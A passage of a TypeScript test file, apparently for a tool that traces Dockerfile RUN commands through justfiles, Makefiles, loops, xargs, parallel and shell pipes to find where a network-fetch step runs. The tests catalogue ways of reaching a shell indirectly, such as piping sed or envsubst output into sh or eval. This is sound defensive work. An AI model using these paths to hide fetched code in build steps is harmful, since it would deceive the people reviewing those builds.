    ['just y', `alias y := x\nx:\n    ${FETCH}\n`, 'justfile:3'],
    ['just c/y', 'z:\n', 'c/b.sh:1', { 'c/justfile': 'y:\n    sh b.sh\n', 'c/b.sh': FETCH }],
    ['just c/', 'z:\n', 'c/justfile:2', { 'c/justfile': `y:\n    ${FETCH}\n` }],
    ['cd c && just x', 'x:\n    sh b.sh\n', 'b.sh:1', { 'c/d': 'd' }],
    ['just x', `v := \`${FETCH}\`\nx:\n    true\n`, 'justfile:1'],
    ['just x', `v := shell('${FETCH}')\nx:\n    true\n`, 'justfile:1'],
    ['just x', `x:\n    echo {{\`${FETCH}\`}}\n`, 'justfile:2'],
    ['just x', `x a=\`${FETCH}\`:\n    echo {{a}}\n`, 'justfile:1'],
    ['just x b.sh', 'x f:\n    sh {{f}}\n', 'b.sh:1'],
    ['just x', "x f='b.sh':\n    sh {{f}}\n", 'b.sh:1'],
    ['just x -e b.sh', 'x +f:\n    sh {{f}}\n', 'b.sh:1'],
    ['just y', "x f:\n    sh {{f}}\ny: (x 'b.sh')\n", 'b.sh:1'],
    ['just y b.sh', 'x f:\n    sh {{f}}\ny g: && (x g)\n', 'b.sh:1'],
    ['just f=b.sh x', "f := 'a.sh'\nx:\n    sh {{f}}\n", 'b.sh:1'],
    ['just --set f b.sh x', "f := 'a.sh'\nx:\n    sh {{f}}\n", 'b.sh:1'],
    ['just x', "set working-directory := 'c'\nx:\n    sh b.sh\n", 'c/b.sh:1', { 'c/b.sh': FETCH }],
    ['just x', "[working-directory: 'c']\nx:\n    sh b.sh\n", 'c/b.sh:1', { 'c/b.sh': FETCH }],
    ['cd c && just x', '[no-cd]\nx:\n    sh b.sh\n', 'c/b.sh:1', { 'c/b.sh': FETCH }],
    ['just x', 'x:\n    sh {{justfile_directory()}}/b.sh\n', 'b.sh:1'],
    ['just a x', `a:\n    true\nx:\n    ${FETCH}\n`, 'justfile:4'],
  ])('%j with %j', async (run, justfile, place, files = {}) => {
    expect(await fetched({ ...FILES, ...files, justfile, Dockerfile: inFolder(`RUN ${run}`) })).toEqual([place]);
  });

  it.each<[run: string, justfile: string, files?: Files]>([
    ['just x', "import 'b.just'\nx:\n    true\n"],
    ['just y', "import 'b.just'\ny:\n    true\n"],
    ['just', "import 'b.just'\ny:\n    true\n"],
    ['just x', 'mod b\nx:\n    true\n'],
    ['just b y', 'mod b\n'],
    ['just b x', 'y:\n    true\n'],
    ['just y x', `y a:\n    echo {{a}}\nx:\n    ${FETCH}\n`],
    ['just y', `y: (z 'x')\nz a:\n    echo {{a}}\nx:\n    ${FETCH}\n`],
    ['just y', 'x f:\n    sh {{f}}\ny g: (x g)\n'],
    ['just x a.sh', "x f='b.sh':\n    sh {{f}}\n"],
    ['just y', "x f:\n    sh {{f}}\ny: (x ('b' + '.sh'))\n"],
    ['just f=a.sh x', "f := 'b.sh'\nx:\n    sh {{f}}\n"],
    ['just x', "import 'justfile'\nmod x 'justfile'\n"],
    ['just c/x', 'x:\n    sh b.sh\n', { 'c/justfile': 'y:\n    true\n' }],
  ])('says nothing of %j with %j', async (run, justfile, files = {}) => {
    expect(await fetched({ ...FILES, ...files, justfile, Dockerfile: inFolder(`RUN ${run}`) })).toEqual([]);
  });

  it('takes little time whatever it has', async () => {
    const quotes = String.raw`\"`.repeat(50_000);
    const chain = Array.from({ length: 5_000 }, (_, at) => `r${at}: r${at + 1} r${at + 2}`).join('\n');
    for (const justfile of [
      `x a="${quotes}:\n    true\n`,
      `x: r0\n${chain}\n`,
      "import 'justfile'\nmod m 'justfile'\n",
    ]) {
      const files = { justfile, Dockerfile: inFolder(`RUN just x ${'m::'.repeat(5_000)}x`) };
      await inTimeAsync(4000, () => fetched(files));
    }
  });
});

describe('files of folders that a loop names', () => {
  const FILES: Files = {
    'a/Makefile': 'all:\n\ttrue\n',
    'b/Makefile': `all:\n\t${FETCH}\nother:\n\ttrue\n`,
    'b/package.json': packageOf({ build: FETCH }),
    'b/s.sh': `${FETCH}\n`,
    's/b.sh': `${FETCH}\n`,
  };
  const made = (recipe: string, before = '') => ({ Makefile: `${before}all:\n\t${recipe}\n` });
  const inB = 'b/Makefile:2';

  it.each<[run: string, place: string, files?: Files]>([
    ['for d in a b; do make -C $d; done', inB],
    ['for d in a b; do make --directory="$d" all; done', inB],
    ['for d in a b; do make -f ${d}/Makefile; done', inB],
    ['for d in a b; do (cd "$d" && make); done', inB],
    ['for d in a b; do cd $d; make; cd ..; done', inB],
    ['for d in . x; do cd $d/b && make; done', inB],
    ['for d in */; do make -C $d; done', inB],
    ['for d in *; do (cd $d && make); done', inB],
    ['for d in */Makefile; do make -C "$(dirname "$d")"; done', inB],
    ['ls -d */ | while read -r d; do make -C "$d"; done', inB],
    ['for d in a b; do npm --prefix $d run build; done', 'b/package.json:3'],
    ['for d in a b; do (cd $d && npm run build); done', 'b/package.json:3'],
    ['for d in a b; do (cd $d && sh ./s.sh); done', 'b/s.sh:1'],
    ['sh l.sh', inB, { 'l.sh': 'for d in a b; do\n  make -C "$d"\ndone\n' }],
    ['sh l.sh', inB, { 'l.sh': 'D="a b"\nfor d in $D; do\n  (cd $d && make)\ndone\n' }],
    ['make', inB, made('for d in $(D); do $(MAKE) -C $$d || exit 1; done', 'D = a b\n')],
    ['make', inB, made('@for d in a b; do $(MAKE) -C $$d $@; done')],
    ['make', inB, made('for d in $(D); do (cd $$d && $(MAKE)); done', 'D = a b\n')],
    ['make', inB, made('for d in $(wildcard */.); do $(MAKE) -C $$d; done')],
    ['make', inB, made('for d in $(dir $(wildcard */Makefile)); do $(MAKE) -C $$d; done')],
    ['make', inB, made('$(foreach d,$(wildcard */),$(MAKE) -C $(d);)')],
    ['make', inB, { Makefile: 'D := $(wildcard */.)\nall: $(D)\n$(D):\n\t$(MAKE) -C $@\n' }],
    [
      'make',
      inB,
      { Makefile: 'D := $(patsubst %/Makefile,%,$(wildcard */Makefile))\nall: $(D)\n$(D):\n\tmake -C $@\n' },
    ],
    ['make', 's/b.sh:1', made('for s in $(wildcard s/*.sh); do sh $$s; done')],
    ['make', 's/b.sh:1', { Makefile: 'all: $(patsubst s/%.sh,run-%,$(wildcard s/*.sh))\nrun-%:\n\tsh s/$*.sh\n' }],
    ['make', 'b/m.mk:2', { Makefile: 'include $(wildcard */m.mk)\n', 'b/m.mk': `all:\n\t${FETCH}\n` }],
  ])('%j', async (run, place, files = {}) => {
    expect(await fetched({ ...FILES, ...files, Dockerfile: inFolder(`RUN ${run}`) })).toEqual([place]);
  });

  it.each<[run: string, files?: Files]>([
    ['for d in a x; do make -C $d; done'],
    ['for d in a b; do make -C $d other; done'],
    ['for d in a b; do echo make -C $d; done'],
    ['for d in a b; do (cd $d && true); done; make', made('true')],
    ['for d in a b; do cd $d; cd ..; make; done', made('true')],
    ['for d in x*/; do make -C $d; done'],
    ['for d in $DIRS; do make -C $d; done'],
    ['for d in a b; do make -C $d/..; done', made('true')],
    ['make', made('echo $(wildcard */.)')],
    ['make', made('for d in $(wildcard x/*); do $(MAKE) -C $$d; done')],
    ['make', made('for d in $(wildcard /a/*); do $(MAKE) -C $$d; done')],
  ])('says nothing of %j', async (run, files = {}) => {
    expect(await fetched({ ...FILES, ...files, Dockerfile: inFolder(`RUN ${run}`) })).toEqual([]);
  });
});

describe('a script that reaches a shell in another way', () => {
  const FILES: Files = { 's/b': `${FETCH}\n`, 's/a': 'true\n', 's/list': '# all\na\nb\n', 's/pairs': 'b 1\n' };

  it.each([
    'while read s; do sh s/$s; done < s/list',
    'while IFS= read -r s; do sh "s/$s"; done < s/list',
    'while read -r s n; do sh s/$s $n; done < s/pairs',
    'cat s/list | while read -r s; do ./s/$s; done',
    "grep -v '^#' s/list | while read -r s; do sh s/$s; done",
    'for s in $(cat s/list); do sh s/$s; done',
    'cat s/list | xargs -I{} sh s/{}',
    'sort s/list | xargs -n1 -I% sh s/%',
    'printf "a\\nb\\n" | xargs -I% sh s/%',
    'echo s/a s/b | xargs -n1 sh',
    'sed "s/@V@/1/" s/b | sh',
    "sed -e 's/@V@/1/' -e s/a/b/ s/b | bash -e",
    'cat s/b | sed s/a/b/ | sh',
    'sh < s/b',
    'envsubst < s/b | sh',
    "tr -d '\\r' < s/b | sh",
    'head -n 50 s/b | sh',
    'tail -n +1 s/b | sh',
    'dos2unix < s/b | sh',
    'eval "$(sed s/a/b/ s/b)"',
    "scl enable gcc-toolset-13 'sh s/b'",
    'scl enable gcc-toolset-13 -- sh s/b',
    'mold -run sh s/b',
    'parallel sh ::: s/a s/b',
    'parallel -j 2 sh s/{} ::: a b',
    "parallel 'sh s/{}' ::: a b",
    'ls s | parallel sh s/{}',
  ])('%j', async (command) => {
    expect(await fetched({ Dockerfile: inFolder(`RUN ${command}`), ...FILES })).toEqual(['s/b:1']);
  });

  it.each([
    'while read s; do echo s/$s; done < s/list',
    'while read s; do sh s/$s; done < s/pairs.txt',
    'while read -r n s; do sh s/$s; done < s/pairs',
    'for s in $(cat s/other); do sh s/$s; done',
    'echo s/b | xargs rm',
    'echo s/a | xargs sh',
    'printf "a\\n" | xargs -I% sh s/%',
    'sed -n 1p s/b | sh',
    'sed -i s/a/b/ s/b | sh',
    "tr 'a-z' 'n-za-m' < s/b | sh",
    'sed s/a/b/ s/b',
    'sed s/a/b/ s/a | sh',
    'tail -n 5 s/b > /dev/null',
    "scl enable gcc-toolset-13 'cat s/b'",
    'mold -o s/b sh',
    'parallel cat ::: s/b',
    'parallel sh ::: s/a',
  ])('says nothing of %j', async (command) => {
    expect(await fetched({ Dockerfile: inFolder(`RUN ${command}`), ...FILES })).toEqual([]);
  });
});
